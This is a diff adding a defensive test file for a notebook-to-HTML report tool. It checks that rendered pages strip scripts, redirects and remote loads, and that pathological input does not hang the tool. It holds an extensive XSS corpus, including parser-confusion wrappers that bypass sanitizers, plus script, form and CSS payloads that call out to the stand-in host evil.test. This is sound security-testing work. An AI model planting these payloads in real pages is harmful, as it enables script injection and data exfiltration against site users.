@@ -1,0 +1,205 @@
+"""Notebooks made to harm who looks at their page: nothing runs, loads or redirects, none hangs."""
+
+import itertools
+import json
+import re
+import time
+
+import pytest
+
+from labkit.errors import InputError
+from labkit.reports import page
+from labkit.reports.maths import Budget, draw_maths
+from tests.browser import chromium
+from tests.reports import folders
+from tests.reports.folders import code, markdown
+
+LIVE = (
+    '<meta http-equiv="refresh" content="0;url=http://evil.test/r">',
+    "<script>document.title='ran';fetch('http://evil.test/s');alert(1)</script>",
+    '<form id=f action="http://evil.test/f"><input name=a><button autofocus>go</button></form>',
+    '<img src="http://evil.test/i" onerror="document.title=\'ran\';alert(1)">',
+    '<iframe src="http://evil.test/i" srcdoc="<script>alert(1)</script>"></iframe>',
+)
+# What hides the live part from one parser and not from another; {} is its place.
+WRAPS = (
+    "{}",
+    "<!-->{}-->",
+    "<!--->{}-->",
+    "<!-- --!>{}-->",
+    "<!--><!-- {} -->",
+    "<!-{}->",
+    "<![CDATA[ ]]{} ]]>",
+    "<![CDATA[>{}]]>",
+    "<svg><![CDATA[ ]]><p>{}]]></svg>",
+    "<?php > {} ?>",
+    "<!DOCTYPE x [ <!ENTITY > {} ]>",
+    "<!x>{}",
+    "<!--[if IE]>{}<![endif]-->",
+    "<![if !IE]>{}<![endif]>",
+    "<svg><style><!--</style>{}--></svg>",
+    "<svg><title>{}</title></svg>",
+    "<svg></p><style><a id=\"</style>{}\">",
+    "<math><mtext><table><mglyph><style><!--</style>{}--></style></mglyph></table></mtext></math>",
+    "<math><annotation-xml encoding=text/html><style>{}</style></annotation-xml></math>",
+    "<noscript><p title=\"</noscript>{}\"></noscript>",
+    "<template>{}</template>",
+    "<textarea><!--</textarea>{}--></textarea>",
+    "<title><p title=\"</title>{}\"></title>",
+    "<xmp><p title=\"</xmp>{}\"></xmp>",
+    "<style><p title=\"</style>{}\"></style>",
+    "<plaintext>{}",
+    "<noembed></noembed >{}",
+    "<select><option>{}",
+    "<table><tr><td></table>{}",
+    "</div></div></main></body></html>{}",
+    "<p title='<!--'>{}<p title='-->'>",
+    "<a title=\"`<p>\">{}",
+    "<b/x=/{}",
+    "<p\x0ctitle=a\x0c>{}",
+    "<ScRiPt/x>//</ScRiPt\n>{}",
+    "<div class=output_markdown>$x$&lt;b&gt;{}</div>",
+)  # fmt: skip
+SINGLE = (
+    "<svg onload=alert(1)><use href=http://evil.test/u></use><image href=http://evil.test/i></svg>",
+    '<body onload=alert(1) background="http://evil.test/b">',
+    '<p style="background:u\\72l(http://evil.test/c)">p</p>',
+    '<p style="background:image-set(\'http://evil.test/c\' 1x)">p</p>',
+    '<p style="position:fixed;inset:0;color:red;background-image:url(//evil.test/d)">p</p>',
+    '<link rel=stylesheet href=http://evil.test/l><link rel=prefetch href=http://evil.test/p>',
+    '<link rel=dns-prefetch href=//evil.test><base href=http://evil.test/>',
+    '<a href="javascript:alert(1)">a</a><a href="java\nscript:alert(1)">a</a>',
+    '<a href=" \x01javascript:alert(1)">a</a><a href="http://evil.test" ping="http://evil.test/p">',
+    '<a href="data:text/html,<script>alert(1)</script>">a</a><a href="vbscript:x">a</a>',
+    '<object data="http://evil.test/o"></object><embed src="http://evil.test/e">',
+    '<video src="http://evil.test/v" poster="http://evil.test/p" autoplay></video><audio src=x>',
+    '<img srcset="http://evil.test/s 1x"><picture><source srcset="http://evil.test/t"></picture>',
+    '<img src="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=alert(1) />">',
+    '<details open ontoggle=alert(1)>d</details><input autofocus onfocus=alert(1)>',
+    '<marquee onstart=alert(1)>m</marquee><isindex action=http://evil.test>',
+    '<style>@import "http://evil.test/c";*{background:url(http://evil.test/d)}</style>',
+    '<frameset onload=alert(1)><frame src=http://evil.test/f></frameset>',
+    '<table background="http://evil.test/t"><td background="http://evil.test/u">x</td></table>',
+    '<x-y onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</x-y>',
+    "$\\text{<script>alert(1)</script>}$ $x\" onload=\"alert(1)$ $$</code><script>alert(1)</script>",
+)  # fmt: skip
+CORPUS = [
+    wrap.replace("{}", live) for wrap, live in itertools.product(WRAPS, LIVE)
+] + [*SINGLE]  # fmt: skip
+
+
+def notebook(cells):
+    """A run whose notebook has each cell as markdown, as an output of HTML, and as markdown's."""
+    outputs = [
+        {"output_type": "display_data", "metadata": {}, "data": {kind: text}}
+        for text in cells
+        for kind in ("text/html", "text/markdown")
+    ]
+    return folders.notebook(*map(markdown, cells), *(code("show()", one) for one in outputs))
+
+
+@pytest.fixture(scope="module")
+def written(tmp_path_factory):
+    """The pages of the corpus, ten texts a notebook."""
+    root = tmp_path_factory.mktemp("hostile")
+    for number, start in enumerate(range(0, len(CORPUS), 10)):
+        folder = root / "run" / f"lab-{number:02}"
+        folder.mkdir(parents=True)
+        path = folder / "n.ipynb"
+        path.write_text(json.dumps(notebook(CORPUS[start : start + 10])))
+    written = page.write([root / "run"], root / "out.html")
+    pages = sorted((root / "out_notebooks").glob("*.html"))
+    assert len(CORPUS) >= 100 and len(pages) == -(-len(CORPUS) // 10)
+    return [written, *pages]
+
+
+def test_only_tags_of_the_list_are_on_the_pages(written):
+    """Whatever the parser: no tag but these, so that no "<" can begin anything else."""
+    from labkit.reports.notebook_page import _TAGS
+
+    for path in written[1:]:
+        body = path.read_text().partition("<main")[2].partition("</main>")[0]
+        assert body.count("<div") > 20
+        for found in re.finditer(r"<(.{0,40})", body, re.DOTALL):
+            tag = re.match(r"/?([a-z0-9]+)(?=[\s/>])", found[1])
+            assert tag and tag[1] in _TAGS | {"svg", "path", "main"}, found[0]
+        for tag in re.findall(r"<[a-z][^<>]*>", body):
+            bare = re.sub(r'"[^"]*"', '""', tag)
+            assert not re.search(r"\bon\w+=|srcset|action|ping|background=|poster", bare), tag
+            assert "url(" not in tag or "aria-label" in tag, tag
+
+
+@pytest.mark.slow
+def test_nothing_runs_loads_or_redirects_in_chromium(written):  # noqa: B023
+    """With the page's own policy taken away too: what is cleaned does not rest on it."""
+    playwright = pytest.importorskip("playwright.sync_api", reason="Playwright is not installed")
+    path, why = chromium.find()
+    if path is None:
+        pytest.skip(why)
+    seen: list[str] = []
+    with playwright.sync_playwright() as driver:
+        one = driver.chromium.launch(executable_path=path, args=chromium.arguments())
+        for file, policy in itertools.product(written, (True, False)):
+            target = file
+            if not policy:
+                target = file.with_name("bare-" + file.name)
+                text, count = re.subn(r"<meta http-equiv=[^>]*>", "", file.read_text(), count=1)
+                assert count == 1
+                target.write_text(text)
+            tab = one.new_page()
+            asked = []
+            tab.on("request", lambda request, asked=asked: asked.append(request.url))
+            tab.on("dialog", lambda dialog: seen.append(dialog.message))
+            tab.on("popup", lambda popup: seen.append(popup.url))
+            tab.goto(target.as_uri())
+            tab.wait_for_timeout(300)
+            seen += [url for url in asked if url != target.as_uri() and url[:5] != "data:"]
+            assert tab.url == target.as_uri() and tab.title() != "ran"
+            live = tab.eval_on_selector_all(
+                "script, iframe, form, meta[http-equiv=refresh], object, embed, link, base",
+                "all => all.map(one => one.outerHTML)",
+            )
+            assert live == []
+            tab.close()
+        one.close()
+    assert seen == []
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["<a" * 50_000, "<!--" * 30_000, "<?" * 50_000, "<a b='" * 20_000, "&#" * 40_000],
+)
+def test_what_a_parser_is_quadratic_in_is_read_at_once(text, tmp_path):
+    """40 s with html.parser alone."""
+    from labkit.reports.notebook_page import _clean
+
+    began = time.process_time()
+    _clean(f'<div class="text_cell_render">{text}</div>', tmp_path)
+    assert time.process_time() - began < 10
+
+
+def test_html_that_is_nested_too_deep_is_refused(tmp_path):
+    from labkit.reports.notebook_page import _clean
+
+    _clean("<b>" * 250 + "x", tmp_path)
+    with pytest.raises(InputError, match="nested more than 256 deep"):
+        _clean("<b>" * 300 + "x", tmp_path)
+
+
+@pytest.mark.parametrize(
+    "tex", [r"\frac{" * 2000, r"\frac{" * 1000 + "}" * 1000, r"\frac12" * 1700, "{" * 12_000]
+)
+def test_12_kb_of_tex_take_no_time_and_stay_tex(tex):
+    """The first took more than 10 s, its braces being counted anew for each."""
+    began = time.process_time()
+    assert draw_maths(f"<p>${tex}$</p>") == f'<p><code class="maths">{tex}</code></p>'
+    assert time.process_time() - began < 1
+
+
+def test_a_page_draws_no_more_maths_than_its_budget():
+    budget = Budget(9)
+    assert draw_maths("$a+b$ $c+d$", budget).count("<svg") == 2
+    assert draw_maths("$a+bc$ $x$", budget) == (
+        '<code class="maths">a+bc</code> <code class="maths">x</code>'
+    )
+    assert draw_maths("$a+bc$").count("<svg") == 1
